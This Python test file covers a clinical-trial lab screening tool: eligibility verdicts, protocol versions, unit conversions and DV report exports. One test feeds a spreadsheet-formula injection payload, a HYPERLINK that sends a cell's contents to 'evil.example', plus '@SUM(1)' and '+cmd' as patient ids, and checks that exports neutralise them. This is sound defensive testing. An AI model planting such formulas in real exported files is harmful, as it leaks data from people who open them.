"""reasoning.batch.screen on small files: verdicts, versions in force, phases, accounting, reports."""

from __future__ import annotations

import csv
import io
import json

from ingest.patients import read_lab_file
from reasoning.batch import screen
from reasoning.models import OverallVerdict, Verdict
from tests.batch.conftest import make_protocol
from ui.reports import dv_records, write_dv, write_errors, write_findings

V1 = [("inclusion", "I1", "ALT ≤ 2.5 × ULN."), ("inclusion", "I2", "Platelet count ≥ 100 × 10^9/L."),
      ("exclusion", "E1", "Serum creatinine > 2.5 mg/dL."),
      ("discontinuation", "D1", "ALT > 5 × ULN at any time on study.")]
V2 = [("inclusion", "I1", "ALT ≤ 3 × ULN."), ("inclusion", "I2", "Platelet count ≥ 75 × 10^9/L."),
      ("exclusion", "E1", "Serum creatinine > 2.5 mg/dL."),
      ("discontinuation", "D1", "ALT > 5 × ULN at any time on study.")]

LABS = """
patient_id,test,value,unit,uln,date,reference_start
A,ALT,100,U/L,40,2024-03-01,2024-03-05
A,platelets,120,10^9/L,,2024-03-01,2024-03-05
A,creatinine,221,umol/L,,2024-03-01,2024-03-05
B,ALT,101,U/L,40,2024-03-01,2024-03-05
B,platelets,90,10^3/uL,,2024-03-01,2024-03-05
B,platelets,90,10^3/uL,,2024-03-01,2024-03-05
C,ALT,110,U/L,40,2024-07-01,2024-07-05
C,platelets,80,10^9/L,,2024-07-01,2024-07-05
C,creatinine,2.6,mg/dL,,2024-07-01,2024-07-05
C,ALT,250,U/L,40,2024-08-01,2024-07-05
D,ALT,70,U/L,,2024-03-01,2024-03-05
E,ALT,20,U/L,40,2023-01-01,2023-01-05
F,glucose,5,mmol/L,,2024-03-01,2024-03-05
"""


def _versions():
    return [make_protocol("1.0", "2024-01-15", V1), make_protocol("2.0", "2024-06-01", V2)]


def _pairs(result):
    label = {c.id: c.label for p in _versions() for c in p.criteria}
    return {(pid, version, label[cid]): verdict for pid, version, cid, verdict in result.pair_verdicts}


def test_versions_phases_verdicts_and_accounting(write_csv):
    lab = read_lab_file(write_csv(LABS))
    result = screen(lab, _versions())
    pairs = _pairs(result)
    assert pairs[("A", "1.0", "I1")] == "MEETS"  # 100 = 2.5 × 40 exactly: ≤ holds
    assert pairs[("A", "1.0", "E1")] == "MEETS"  # 221 µmol/L = 2.4999 mg/dL, not > 2.5
    assert pairs[("B", "1.0", "I1")] == "VIOLATES"  # 101 > 100
    assert pairs[("B", "1.0", "I2")] == "VIOLATES"  # 90 × 10^3/µL = 90 × 10^9/L < 100
    assert pairs[("C", "2.0", "I1")] == "MEETS"  # version 2.0 in force in July: ≤ 3 × ULN
    assert pairs[("C", "2.0", "I2")] == "MEETS" and pairs[("C", "2.0", "E1")] == "VIOLATES"
    assert pairs[("D", "1.0", "I1")] == "INDETERMINATE"  # no ULN given
    assert not any(key[2] == "D1" for key in pairs)  # on-study labs are not judged by default
    assert result.patients["A"] is OverallVerdict.NO_DEVIATION and result.patients["D"] is OverallVerdict.NEEDS_REVIEW
    assert result.patients["B"] is OverallVerdict.DEVIATION
    # the duplicate platelet row is reported once and judged once
    assert [e.reason for e in result.errors] == ["duplicate of row 5: judged once"]
    # E's lab predates version 1.0; F's glucose concerns no criterion; C's August ALT is on study
    assert result.out_of_scope["lab dated before the first version of MINI (effective 2024-01-15)"] == 1
    assert result.out_of_scope["screening lab of an analyte no eligibility criterion concerns"] == 1
    assert sum(v for k, v in result.out_of_scope.items() if k.startswith("on-study lab")) == 1
    assert result.rows_in == 13 == result.rows_judged + len(result.errors) + sum(result.out_of_scope.values())
    deviation = next(f for f in result.deviations if f.patient_id == "B" and f.finding.label == "I2")
    assert deviation.version == "1.0" and deviation.finding.citations[0].verified
    assert any("90" in line for line in deviation.finding.arithmetic)


def test_visits_all_judges_on_study_labs_against_discontinuation(write_csv):
    result = screen(read_lab_file(write_csv(LABS)), _versions(), visits="all")
    pairs = _pairs(result)
    assert pairs[("C", "2.0", "D1")] == "VIOLATES"  # 250 > 5 × 40 on study
    on_study = [f for f in result.deviations if f.phase == "on-study"]
    assert [(f.patient_id, f.finding.label, str(f.lab_date)) for f in on_study] == [("C", "D1", "2024-08-01")]


def test_reports_findings_dv_and_errors(write_csv, tmp_path):
    result = screen(read_lab_file(write_csv(LABS)), _versions())
    records = dv_records(result)
    assert {(r["USUBJID"], r["DVCRITLB"]) for r in records} == {("B", "I1"), ("B", "I2"), ("C", "E1")}
    b = [r for r in records if r["USUBJID"] == "B"]
    assert [r["DVSEQ"] for r in b] == [1, 2] and all(r["DOMAIN"] == "DV" for r in records)
    assert all(r["DVDECOD"] == "INCLUSION CRITERION NOT MET" for r in b) and b[0]["DVSTDTC"] == "2024-03-01"
    assert b[0]["DVQUOTE"] and b[0]["DVPAGE"] == 1
    with write_dv(result, tmp_path / "dv.csv").open(encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == 3
    import pyreadstat

    frame, _ = pyreadstat.read_xport(str(write_dv(result, tmp_path / "dv.xpt")))
    assert list(frame["DVCRITLB"]) == [r["DVCRITLB"] for r in records]
    rows = list(csv.DictReader(write_findings(result, tmp_path / "f.csv").open(encoding="utf-8")))
    assert rows[0]["verdict"] == "VIOLATES" and {r["verdict"] for r in rows} == {"VIOLATES", "INDETERMINATE"}
    assert {(r["kind"], r["verdict"], r["reads_as"]) for r in rows if r["verdict"] == "VIOLATES"} == {
        ("inclusion", "VIOLATES", "⛔ does not meet"), ("exclusion", "VIOLATES", "⛔ EXCLUDED")}
    data = json.loads(write_findings(result, tmp_path / "f.json").read_text(encoding="utf-8"))
    assert data["deviations"] == 3 and data["rows_in"] == 13
    errors = list(csv.DictReader(write_errors(result, tmp_path / "e.csv").open(encoding="utf-8")))
    # row 6 of the data is row 7 of the spreadsheet (the header is row 1)
    assert errors == [{"file": "labs.csv", "row": "6", "spreadsheet_row": "7", "severity": "error", "field": "row",
                       "patient_id": "B",
                       "value": "", "reason": "duplicate of row 5: judged once"}]


def test_fast_path_and_exact_engine_agree_at_the_boundary(write_csv):
    """Values exactly at, and a hair around, the limit in other units: the exact engine decides near limits."""
    lab = read_lab_file(write_csv("""
patient_id,test,value,unit,date
P1,creatinine,2.5,mg/dL,2024-03-01
P2,creatinine,221.0,umol/L,2024-03-01
P3,creatinine,221.1,umol/L,2024-03-01
P4,creatinine,0.025,g/L,2024-03-01
P5,creatinine,25.01,mg/L,2024-03-01
"""))
    pairs = _pairs(screen(lab, _versions()))
    assert [pairs[(p, "1.0", "E1")] for p in ("P1", "P2", "P3", "P4", "P5")] == \
        ["MEETS", "MEETS", "VIOLATES", "MEETS", "VIOLATES"]
    assert all(v != Verdict.NEEDS_REVIEW.value for v in pairs.values())


def test_exported_csv_cells_never_run_as_spreadsheet_formulas(write_csv, tmp_path):
    """A patient id that is a formula (from a hostile or broken lab file) reaches every CSV as inert text."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["patient_id", "test", "value", "unit", "uln", "date", "reference_start"])
    for patient in (hostile, "@SUM(1)", "+cmd", "-2", "-2"):
        writer.writerow([patient, "ALT", "200", "U/L", "40", "2024-03-01", "2024-03-05"])
    labs = buffer.getvalue()
    result = screen(read_lab_file(write_csv(labs)), _versions())
    cells = []
    for path in (write_findings(result, tmp_path / "f.csv"), write_dv(result, tmp_path / "dv.csv"),
                 write_errors(result, tmp_path / "e.csv")):
        cells += [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    ids = {cell for cell in cells if "HYPERLINK" in cell or "SUM(1)" in cell or "cmd" in cell}
    assert ids == {"'" + hostile, "'@SUM(1)", "'+cmd"}
    assert "-2" in cells, "a number that starts with '-' is data, not a formula, and stays as it is"
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_dv_term_states_only_what_decided_the_deviation(write_csv):
    """A conditional branch ('≤ 5 × ULN if liver metastases') is undecided when the lab file says nothing of
    metastases: the DVTERM names the unconditional part that violated, and never a branch stripped of its
    condition."""
    rules = [("inclusion", "I9", "AST ≤ 2.5 × ULN (≤ 5 × ULN if liver metastases) and ALT ≤ 2.5 × ULN.")]
    protocol = make_protocol("1.0", "2024-01-15", rules)
    labs = ("patient_id,test,value,unit,uln,date,reference_start\n"
            "P7,AST,130,U/L,40,2024-03-01,2024-03-05\nP7,ALT,400,U/L,40,2024-03-01,2024-03-05\n"
            "P8,AST,300,U/L,40,2024-03-01,2024-03-05\nP8,ALT,20,U/L,40,2024-03-01,2024-03-05\n")
    result = screen(read_lab_file(write_csv(labs)), [protocol])
    terms = {r["USUBJID"]: r["DVTERM"] for r in dv_records(result)}
    # P7: ALT 10 × ULN violates whatever the metastases; the AST branch (3.25 × ULN) decided nothing.
    assert "P7" in terms and "ALT" in terms["P7"] and "AST" not in terms["P7"], terms
    # P8: AST 7.5 × ULN violates both branches, so the branches decided it: each is stated with its condition.
    parts = terms["P8"].split(": ", 1)[1].split("; AST")
    assert len(parts) == 2 and all("AST" in terms["P8"] and part.rstrip().endswith("metastases]") for part in parts), (
        terms)
    assert "[unless liver metastases]" in terms["P8"] and "[if liver metastases]" in terms["P8"]
